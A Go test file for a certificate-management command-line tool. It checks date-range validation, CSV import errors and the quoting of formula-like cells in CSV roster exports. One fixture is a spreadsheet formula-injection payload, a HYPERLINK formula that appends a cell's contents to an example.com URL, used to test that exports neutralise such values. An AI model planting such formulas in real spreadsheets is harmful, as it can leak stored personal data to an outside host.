package app

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
)

// Found by the fault campaign (#14): `0001-01-01` cleared a date, a CE
// record dated 1800 and a registration valid from 9999 were saved. On the
// command line each date flag takes the first and last day of its range
// and refuses the day before and after with exit 2, naming the field and
// the range, and writing nothing.
func TestDateFlagsRefuseImplausibleDays(t *testing.T) {
	r := newRun(t)
	certWithHolder(r)
	r.ok(nil, "ce", "add", "--holder", "1", "--kind", "online", "--title", "伦理", "--hours", "3", "--date", "2026-01-05")
	r.ok(nil, "reg", "add", "--cert", "1", "--kind", "first", "--status", "pending", "--applied-on", "2022-10-01")
	r.ok(nil, "paper", "set", "--cert", "1", "--method", "mail", "--window-start", "2026-11-01", "--window-end", "2026-12-31")
	for _, tc := range []struct {
		field, first, last string
		args               []string // the day is appended
	}{
		{"date", "2008-01-01", "2026-11-22", []string{"ce", "edit", "1", "--date"}},
		{"passed_on", "2008-01-01", "2026-11-22", []string{"cert", "edit", "1", "--exam-year", "2008", "--issued-on", "2026-11-22", "--passed-on"}},
		{"issued_on", "2008-01-01", "2026-11-22", []string{"cert", "edit", "1", "--exam-year", "2008", "--passed-on", "2008-01-01", "--issued-on"}},
		{"applied_on", "2008-01-01", "2026-11-22", []string{"reg", "edit", "1", "--applied-on"}},
		{"valid_from", "2022-10-01", "2027-11-22", []string{"reg", "edit", "1", "--applied-on", "2022-10-01", "--valid-from"}},
		{"window_end", "2026-11-01", "2027-11-22", []string{"paper", "update", "--cert", "1", "--window-end"}},
		{"window_start", "2008-01-01", "2026-12-31", []string{"paper", "update", "--cert", "1", "--window-start"}},
		{"sent_on", "2008-01-01", "2026-11-22", []string{"paper", "update", "--cert", "1", "--window-start", "", "--window-end", "", "--status", "applied", "--sent-on"}},
	} {
		// paper update takes no window; paper set does
		args := func(day string) []string {
			a := append(append([]string{}, tc.args...), day)
			if a[0] == "paper" && strings.Contains(strings.Join(a, " "), "--window") {
				a[1] = "set"
			}
			return a
		}
		for _, day := range []string{tc.first, tc.last} {
			if code, _, errs := r.do(args(day)...); code != 0 {
				t.Errorf("%s %s: exit %d %q", tc.field, day, code, errs)
			}
		}
		before := dumpDB(t, r.db)
		for _, day := range []string{"0001-01-01", "1800-01-01", "2007-12-31", "9999-12-31", dayAfter(tc.last)} {
			code, _, errs := r.do(args(day)...)
			if code != 2 || !strings.HasPrefix(errs, "swcert: "+tc.field+" (") || !strings.Contains(errs, "2008-01-01") {
				t.Errorf("%s %s: exit %d %q, want 2 naming the field and the range", tc.field, day, code, errs)
			}
			if dumpDB(t, r.db) != before {
				t.Errorf("%s %s: the database changed", tc.field, day)
			}
		}
	}
}

// dayAfter is the day after a YYYY-MM-DD of the test's table.
func dayAfter(d string) string {
	switch d {
	case "2026-11-22":
		return "2026-11-23"
	case "2027-11-22":
		return "2027-11-23"
	case "2026-12-31":
		return "2027-11-23" // window_start's bound is the year ahead, not the window's end
	}
	return "9999-01-01"
}

// The import refuses a row whose date is outside its field's range, and
// 0001-01-01 in a cell is such a date, not an empty one.
func TestImportRefusesImplausibleDays(t *testing.T) {
	r := newRun(t)
	csv := filepath.Join(t.TempDir(), "staff.csv")
	body := "姓名,身份证号,级别,管理号,考试年份,合格日期,发证日期\r\n" +
		"张三,11010519491231002X,社会工作师,2022S110001,2022,2022-09-20,0001-01-01\r\n" +
		"李四,110105194912310046,社会工作师,2022S110002,2022,1800-01-01,2022-12-01\r\n" +
		"王五,44030519900101123X,社会工作师,2022S110003,2008,2008-01-01,2026-11-22\r\n"
	if err := os.WriteFile(csv, []byte(body), 0o600); err != nil {
		t.Fatal(err)
	}
	code, stdout, _ := r.do("import", csv)
	if code != 2 || !strings.Contains(stdout, "row 2, 发证日期") || !strings.Contains(stdout, "row 3, 合格日期") ||
		!strings.Contains(stdout, "2008-01-01 to 2026-11-22") || strings.Contains(stdout, "row 4") {
		t.Errorf("import: exit %d\n%s", code, stdout)
	}
}

// Found by the fault campaign (#14): the CSV roster wrote cells beginning
// with =, +, - or @ raw. They are quoted in the file, and the file
// imported into a new database gives back exactly the stored values.
func TestRosterCSVRoundTripKeepsFormulaLikeValues(t *testing.T) {
	r := newRun(t)
	values := map[string]string{"name": "-张三", "org": `=HYPERLINK("http://example.com/?"&C2,"x")`, "region": "'北京"}
	r.ok(nil, "holder", "add", "--id-number", "11010519491231002X", "--name", values["name"], "--org", values["org"], "--region", values["region"])
	r.ok(nil, "cert", "add", "--holder", "1", "--level", "social_worker", "--mno", "2022S110001", "--exam-year", "2022", "--passed-on", "2022-09-20", "--issued-on", "2022-12-01", "--issuer", "@人社部")
	r.ok(nil, "holder", "add", "--id-number", "110105194912310046", "--name", "+李四", "--org", "''=1+1")
	r.ok(nil, "cert", "add", "--holder", "2", "--level", "assistant", "--mno", "2022Z110002", "--exam-year", "2022", "--passed-on", "2022-09-20", "--issued-on", "2022-12-01")
	out := filepath.Join(t.TempDir(), "roster.csv")
	r.ok(nil, "export", "roster", "--out", out)
	b, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{`"'=HYPERLINK(""http://example.com/?""&C2,""x"")"`, "'-张三", "'@人社部", "''北京", "'+李四", "'''=1+1"} {
		if !strings.Contains(string(b), want) {
			t.Errorf("the CSV lacks %s:\n%s", want, b)
		}
	}

	fresh := newRun(t)
	fresh.ok(nil, "import", out)
	read := func(run *run) string {
		var hs []holderJSON
		run.ok(&hs, "--reveal", "holder", "list")
		var s []string
		for _, h := range hs {
			var certs []struct {
				Issuer string `json:"issuer"`
				MNo    string `json:"mno"`
			}
			run.ok(&certs, "cert", "list", "--holder", strconv.FormatInt(h.ID, 10))
			c, _ := json.Marshal(certs)
			s = append(s, strings.Join([]string{h.Name, h.IDNumber, h.Org, h.Region, string(c)}, "|"))
		}
		return strings.Join(s, "\n")
	}
	if got, want := read(fresh), read(r); got != want {
		t.Errorf("imported:\n%s\nstored:\n%s", got, want)
	}
	var rep importJSON
	r.ok(&rep, "import", out) // and into the database it came from: nothing changes
	if rep.Updated != 0 || rep.Imported != 0 || len(rep.Errors) != 0 {
		t.Errorf("imported again: %+v", rep)
	}
}

// `--period-start 0001-01-01` chose the current period, as if none was
// given: it is a day, and no period starts on it.
func TestPeriodStartOfYearOneIsNoPeriod(t *testing.T) {
	r := newRun(t)
	certWithHolder(r)
	r.ok(nil, "reg", "add", "--cert", "1", "--kind", "first", "--status", "issued", "--applied-on", "2022-10-01", "--valid-from", "2022-11-01")
	out := filepath.Join(t.TempDir(), "ce.pdf")
	code, _, errs := r.do("export", "ce-report", "--holder", "1", "--period-start", "0001-01-01", "--out", out)
	if code != 2 || !strings.HasPrefix(errs, "swcert: period_start (") {
		t.Errorf("exit %d %q", code, errs)
	}
	if _, err := os.Stat(out); err == nil {
		t.Error("a report was written")
	}
	r.ok(nil, "export", "ce-report", "--holder", "1", "--period-start", "2022-11-01", "--out", out) // the period that starts there
}
